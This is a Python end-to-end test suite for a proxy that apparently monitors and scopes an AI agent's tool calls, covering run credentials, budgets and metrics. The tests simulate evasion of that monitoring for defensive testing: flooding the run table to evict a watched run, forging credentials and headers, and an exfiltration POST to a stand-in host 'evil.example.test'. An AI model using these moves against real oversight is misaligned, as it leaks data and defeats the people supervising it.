"""Runs as authenticated objects, end to end through a real `offscope proxy`
subprocess and a real loopback upstream that records what it received:
per-run targets, run credentials (missing, forged, expired), the locked
control API, budgets, and metrics that agree with `offscope report` when
runs are reused, split and evicted. docs/runs.md describes the feature."""

from __future__ import annotations

import base64
import json
import time
from pathlib import Path

import httpx
import pytest

from offscope.proxy.control import resolve_token
from tests.support.sidecar_kit import (
    LEDGER_YAML,
    EchoUpstream,
    ProxyProcess,
    cli,
    events,
    of_type,
    report_json,
    scrape,
    total,
)

HISTORY_POLICY = """\
schema: offscope.policy/1
id: enforce-history
mode: enforce
history:
  - name: read-then-exfiltrate
    after_kind: record
    after: {method: GET}
    then: {method: [POST, PUT, PATCH]}
    then_min_stage: act
    only_out_of_scope: true
"""


def ledger(tmp: Path, runs: str) -> str:
    p = tmp / "ledger.yaml"
    p.write_text(LEDGER_YAML + f"runs: {runs}\n", encoding="utf-8")
    return str(p)


def policy(tmp: Path, text: str, name: str = "policy.yaml") -> str:
    p = tmp / name
    p.write_text(text, encoding="utf-8")
    return str(p)


def start(proxy: ProxyProcess, **body) -> tuple[str, str]:
    r = proxy.control("POST", "/runs", json=body)
    assert r.status_code == 201, r.text
    return r.json()["run"], r.json()["credential"]


def via(proxy: ProxyProcess, run: str, credential: str) -> httpx.Client:
    return httpx.Client(
        proxy=f"http://{run}:{credential}@127.0.0.1:{proxy.port}", timeout=10, trust_env=False
    )


def received(up: EchoUpstream, path: str) -> list[dict]:
    return [s for s in up.seen if s["path"] == path]


def test_per_run_targets_put_the_same_call_in_scope_for_one_run_only(tmp_path, upstream, confdir):
    with ProxyProcess(
        tmp_path,
        ledger=ledger(tmp_path, "{targets: add}"),
        policy="enforce",
        routes=upstream.routes(),
        confdir=confdir,
        name="targets",
    ) as proxy:
        a, cred_a = start(proxy, targets={"records": ["customer:5555"]}, labels={"ticket": "T-1"})
        b, cred_b = start(proxy, targets={"records": ["customer:6666"]}, labels={"ticket": "T-2"})
        with via(proxy, a, cred_a) as ca:
            ra = ca.patch("http://crm.acme.test/customers/5555", json={"refund": 5})
            assert (
                ca.get("http://crm.acme.test/customers/4411").status_code == 200
            )  # the base ledger's
        assert ra.status_code == 200, ra.text
        assert len(received(upstream, "/customers/5555")) == 1
        with via(proxy, b, cred_b) as cb:
            rb = cb.patch("http://crm.acme.test/customers/5555", json={"refund": 5})
        assert rb.status_code == 403 and rb.json()["error"] == "offscope_blocked"
        assert len(received(upstream, "/customers/5555")) == 1  # B's call never reached it
        # The credential never travels upstream.
        assert all("proxy-authorization" not in s["headers"] for s in upstream.seen)
        summary = proxy.control("GET", f"/runs/{a}").json()
        assert (
            summary["labels"] == {"ticket": "T-1", "auth": "registered"} and summary["calls"] == 2
        )
    evs = events(proxy.trace)
    starts = {e["run"]: e for e in of_type(evs, "run_start")}
    assert (
        starts[a]["labels"]["auth"] == "registered"
        and starts[a]["ledger_hash"] != starts[b]["ledger_hash"]
    )
    scopes = {
        (c["run"], c["call"]["scope"])
        for c in of_type(evs, "tool_call")
        if c["call"]["url"].endswith("/5555")
    }
    assert scopes == {(a, "in"), (b, "out")}
    assert starts[a]["targets"] == {"records": ["customer:5555"]}
    # Replay re-tags each run's calls with the run's own targets, as the proxy did.
    from offscope.ledgers import load_ledger
    from offscope.policies import load_policy
    from offscope.rollout.replay import replay

    again = replay(
        [proxy.trace], load_ledger(tmp_path / "ledger.yaml"), load_policy("enforce")
    ).as_dict()
    assert again["counts"]["scope_changed"] == 0, again["changes"]


def test_replace_mode_drops_the_base_targets(tmp_path, upstream, confdir):
    with ProxyProcess(
        tmp_path,
        ledger=ledger(tmp_path, "{targets: replace}"),
        policy="enforce",
        routes=upstream.routes(),
        confdir=confdir,
        name="replace",
    ) as proxy:
        run, cred = start(proxy, targets={"hosts": ["crm.acme.test"], "records": ["customer:5555"]})
        with via(proxy, run, cred) as c:
            assert c.patch("http://crm.acme.test/customers/5555", json={}).status_code == 200
            assert c.patch("http://crm.acme.test/customers/4411", json={}).status_code == 403


@pytest.mark.parametrize("mode", ["enforce", "shadow"])
def test_require_registered_refuses_missing_forged_and_expired_credentials(
    tmp_path, upstream, confdir, mode
):
    with ProxyProcess(
        tmp_path,
        ledger=ledger(tmp_path, "{require_registered: true}"),
        policy=mode,
        routes=upstream.routes(),
        confdir=confdir,
        name=f"req-{mode}",
    ) as proxy:
        run, cred = start(proxy)
        short, short_cred = start(proxy, ttl=1)
        url = "http://crm.acme.test/customers/4411"
        with via(proxy, run, cred) as c:
            assert c.get(url).status_code == 200  # the valid credential
        with httpx.Client(proxy=proxy.proxy_url("my-own-id"), timeout=10, trust_env=False) as c:
            missing = c.get(url)
        with via(proxy, run, cred[:-4] + "AAAA") as c:
            forged = c.get(url)
        with httpx.Client(
            proxy=proxy.proxy_url("x"),
            timeout=10,
            trust_env=False,
            headers={"X-Offscope-Run-Credential": f"{run}:not-the-credential"},
        ) as c:
            forged_header = c.get(url)
        with httpx.Client(
            proxy=proxy.proxy_url("x"),
            timeout=10,
            trust_env=False,
            headers={"X-Offscope-Run-Credential": f"{run}:{cred}"},
        ) as c:
            header_ok = c.get(url)
        deadline = time.monotonic() + 15
        while (
            proxy.control("GET", f"/runs/{short}").json()["active"] and time.monotonic() < deadline
        ):
            time.sleep(0.2)
        with via(proxy, short, short_cred) as c:
            expired = c.get(url)
        assert header_ok.status_code == 200
        m = scrape(proxy.metrics_port)
    rejected = {
        "missing": missing,
        "forged": forged,
        "forged_header": forged_header,
        "expired": expired,
    }
    causes = {
        "missing": "missing",
        "forged": "invalid",
        "forged_header": "invalid",
        "expired": "expired",
    }
    evs = events(proxy.trace)
    if mode == "enforce":
        for name, r in rejected.items():
            assert r.status_code == 407, (name, r.text)
            assert r.json()["error"] == "offscope_run_credential_required"
            assert r.json()["cause"] == causes[name], name
        assert total(m, "offscope_unregistered_requests_total", action="refused") == 4
        assert len(upstream.seen) == 2  # only the two valid calls went upstream
        assert not of_type(evs, "tool_call", "unregistered")
    else:
        assert all(r.status_code == 200 for r in rejected.values())
        assert total(m, "offscope_unregistered_requests_total", action="attributed") == 4
        assert len(of_type(evs, "tool_call", "unregistered")) == 4
        assert of_type(evs, "run_start", "unregistered")[0]["labels"] == {"auth": "unregistered"}
    assert total(m, "offscope_unregistered_requests_total", credential="expired") == 1
    # The victim's run got only its own two calls, whatever was forged in its name.
    assert len(of_type(evs, "tool_call", run)) == 2
    assert all("x-offscope-run-credential" not in s["headers"] for s in upstream.seen)
    ends = of_type(evs, "run_end", short)
    assert ends and ends[0]["reason"] == "timeout"


def test_unauthenticated_ids_still_work_and_are_labelled(tmp_path, upstream, confdir):
    with ProxyProcess(
        tmp_path,
        ledger=ledger(tmp_path, "{}"),
        policy="shadow",
        routes=upstream.routes(),
        confdir=confdir,
        name="unauth",
    ) as proxy:
        with httpx.Client(proxy=proxy.proxy_url("local-1"), timeout=10, trust_env=False) as c:
            assert c.get("http://crm.acme.test/customers/4411").status_code == 200
    start_event = of_type(events(proxy.trace), "run_start", "local-1")[0]
    assert start_event["labels"] == {"auth": "unauthenticated"}


def test_a_run_header_cannot_mark_another_run(tmp_path, upstream, confdir):
    with ProxyProcess(
        tmp_path,
        ledger=ledger(tmp_path, "{}"),
        policy="shadow",
        routes=upstream.routes(),
        confdir=confdir,
        name="victim",
    ) as proxy:
        victim, _ = start(proxy)
        attacker, cred = start(proxy)
        with via(proxy, attacker, cred) as c:
            r = c.patch(
                "http://crm.acme.test/customers/9999", json={}, headers={"X-Offscope-Run": victim}
            )
        assert r.status_code == 200
        with httpx.Client(proxy=f"http://127.0.0.1:{proxy.port}", timeout=10, trust_env=False) as c:
            c.patch(
                "http://crm.acme.test/customers/9999", json={}, headers={"X-Offscope-Run": victim}
            )
        assert proxy.control("GET", f"/runs/{victim}").json()["calls"] == 0
    calls = of_type(events(proxy.trace), "tool_call")
    assert [c["run"] for c in calls] == [attacker, "unregistered"]


def test_control_api_needs_the_token(tmp_path, upstream, confdir):
    with ProxyProcess(
        tmp_path,
        ledger=ledger(tmp_path, "{}"),
        routes=upstream.routes(),
        confdir=confdir,
        name="token",
    ) as proxy:
        for token in (None, "wrong-token", proxy.token[:-1], proxy.token + "x"):
            for method, path in (
                ("GET", "/runs"),
                ("POST", "/runs"),
                ("POST", "/runs/x/end"),
                ("GET", "/runs/x"),
            ):
                r = proxy.control(method, path, token=token, json={})
                assert r.status_code == 401, (token, method, path, r.text)
                assert r.headers["www-authenticate"].startswith("Bearer")
        basic = base64.b64encode(f"x:{proxy.token}".encode()).decode()
        assert (
            httpx.get(
                f"http://127.0.0.1:{proxy.control_port}/runs",
                headers={"authorization": f"Basic {basic}"},
            ).status_code
            == 401
        )
        assert proxy.control("GET", "/runs").status_code == 200
        # The metrics listener stays open, and has no control routes.
        assert httpx.get(f"http://127.0.0.1:{proxy.metrics_port}/metrics").status_code == 200
        assert httpx.get(f"http://127.0.0.1:{proxy.metrics_port}/healthz").status_code == 200
        assert httpx.post(f"http://127.0.0.1:{proxy.metrics_port}/runs", json={}).status_code == 404
        bad = proxy.control("POST", "/runs", json={"targets": {"records": ["no-type"]}, "ttl": -1})
        assert bad.status_code == 400 and "ttl" in bad.json()["message"]


def test_generated_token_is_written_0600(tmp_path, monkeypatch, capsys):
    monkeypatch.delenv("OFFSCOPE_CONTROL_TOKEN", raising=False)
    token, where = resolve_token("", tmp_path / "state")
    path = tmp_path / "state" / "control-token"
    assert where == str(path) and path.read_text().strip() == token and len(token) >= 32
    assert path.stat().st_mode & 0o777 == 0o600
    err = capsys.readouterr().err
    assert token not in err and str(path) in err  # where it is, never the token
    # A restart reads the same token: a harness that read it once keeps working.
    assert resolve_token("", tmp_path / "state") == (token, str(path))
    assert token not in capsys.readouterr().err
    monkeypatch.setenv("OFFSCOPE_CONTROL_TOKEN", "from-env")
    assert resolve_token("", tmp_path / "state") == ("from-env", "OFFSCOPE_CONTROL_TOKEN")


BUDGET_POLICY = """\
schema: offscope.policy/1
id: budgeted
mode: enforce
budgets: {max_tool_calls: 3, max_out_of_scope: 1}
"""


def test_budgets_end_runs(tmp_path, upstream, confdir):
    with ProxyProcess(
        tmp_path,
        ledger=ledger(tmp_path, "{}"),
        policy=policy(tmp_path, BUDGET_POLICY),
        routes=upstream.routes(),
        confdir=confdir,
        name="budget",
    ) as proxy:
        calls_run, cred = start(proxy)
        with via(proxy, calls_run, cred) as c:
            statuses = [c.get("http://crm.acme.test/customers/4411").status_code for _ in range(5)]
        assert statuses == [200, 200, 200, 429, 429]
        oos_run, cred = start(proxy)
        with via(proxy, oos_run, cred) as c:
            first = c.get(
                "http://crm.acme.test/customers/9999"
            )  # out of scope, investigate: allowed
            second = c.get("http://crm.acme.test/customers/9998")
            after = c.get("http://crm.acme.test/customers/4411")
        assert (first.status_code, second.status_code, after.status_code) == (200, 429, 429)
        assert second.json()["budget"] == after.json()["budget"] == "out_of_scope"
        assert after.json()["error"] == "offscope_run_budget_exhausted"
        m = scrape(proxy.metrics_port)
        assert (
            proxy.control("GET", f"/runs/{oos_run}").json()["budget_exhausted"]
            == "max_out_of_scope"
        )
    assert total(m, "offscope_run_budget_exhausted_total", budget="tool_calls") == 1
    assert total(m, "offscope_run_budget_exhausted_total", budget="out_of_scope") == 1
    assert len(received(upstream, "/customers/4411")) == 3 and not received(
        upstream, "/customers/9998"
    )
    evs = events(proxy.trace)
    for run in (calls_run, oos_run):
        ends = of_type(evs, "run_end", run)
        assert len(ends) == 1 and ends[0]["reason"] == "step_limit", run
        assert len(of_type(evs, "run_start", run)) == 1  # refused calls start no new run


def test_history_survives_eviction_and_metrics_agree_with_report(tmp_path, upstream, confdir):
    """A registered run's armed history rule survives the agent flooding the run
    table; the eviction is counted; a reused id is a new run; /metrics and
    `offscope report` agree on runs reused, split and evicted."""
    with ProxyProcess(
        tmp_path,
        ledger=ledger(tmp_path, "{}"),
        policy=policy(tmp_path, HISTORY_POLICY),
        routes=upstream.routes(),
        confdir=confdir,
        name="evict",
        extra=["--max-runs", "3"],
    ) as proxy:
        run, cred = start(proxy)
        with via(proxy, run, cred) as c:
            assert c.get("http://crm.acme.test/customers/4411").status_code == 200  # arms the rule
            for i in range(4):  # fresh ids push the registered run out of the table
                with httpx.Client(
                    proxy=proxy.proxy_url(f"flood-{i}"), timeout=10, trust_env=False
                ) as f:
                    assert f.get("http://crm.acme.test/customers/4411").status_code == 200
            assert run not in proxy.control("GET", "/runs").json()["runs"]
            blocked = c.post("http://evil.example.test/upload", json={"dump": 1})
        assert blocked.status_code == 403 and "read-then-exfiltrate" in blocked.json()["reason"]
        # A client-chosen id reused after its end is a new run.
        for _ in range(2):
            with httpx.Client(proxy=proxy.proxy_url("reused"), timeout=10, trust_env=False) as c:
                assert c.get("http://crm.acme.test/customers/9999").status_code == 200
            assert proxy.control("POST", "/runs/reused/end", json={}).status_code == 200
        for active in proxy.control("GET", "/runs").json()["runs"]:
            assert proxy.control("POST", f"/runs/{active}/end", json={}).status_code == 200
        m = scrape(proxy.metrics_port)
    assert total(m, "offscope_runs_evicted_total", armed="true") >= 1
    assert "run_evicted_with_armed_history" in proxy.stderr()
    rep = report_json(proxy.trace, via_cli=True)
    agg = rep["by_ledger"]["sidecar-e2e"]
    assert agg["runs"] == total(m, "offscope_runs_total")
    assert (
        total(m, "offscope_run_ends_total") == agg["runs"] and total(m, "offscope_active_runs") == 0
    )
    assert agg["calls"] == total(m, "offscope_tool_calls_total")
    assert agg["oos_calls"] == total(m, "offscope_tool_calls_total", scope="out")
    for stage, key in (("investigate", "investigated"), ("act", "acted")):
        assert agg["funnel"][key]["k"] == total(m, "offscope_runs_reached_total", stage=stage), (
            stage
        )
    instances = sorted(
        (r["run"], r["instance"]) for r in rep["runs"] if r["run"] in (run, "reused")
    )
    assert instances == [("reused", 1), ("reused", 2), (run, 1), (run, 2)]


def test_runs_cli_starts_shows_and_ends_runs_with_the_token(tmp_path, upstream, confdir):
    token_file = tmp_path / "cli-token"
    with ProxyProcess(
        tmp_path,
        ledger=ledger(tmp_path, "{}"),
        policy="enforce",
        routes=upstream.routes(),
        confdir=confdir,
        name="cli",
    ) as proxy:
        token_file.write_text(proxy.token)
        ctl = [
            "--control",
            f"http://127.0.0.1:{proxy.control_port}",
            "--token-file",
            str(token_file),
        ]
        started = cli(
            "runs", "start", *ctl, "--record", "customer:5555", "--label", "ticket=T-9", "--json"
        )
        assert started.returncode == 0, started.stderr
        data = json.loads(started.stdout)
        with via(proxy, data["run"], data["credential"]) as c:
            assert c.patch("http://crm.acme.test/customers/5555", json={}).status_code == 200
        shown = cli("runs", "show", data["run"], *ctl)
        assert shown.returncode == 0 and json.loads(shown.stdout)["labels"]["ticket"] == "T-9"
        ended = cli("runs", "end", data["run"], *ctl, "--success")
        assert ended.returncode == 0 and json.loads(ended.stdout)["task_success"] is True
        token_file.write_text("wrong")
        refused = cli("runs", "list", *ctl)
        assert refused.returncode == 2 and "401" in refused.stderr
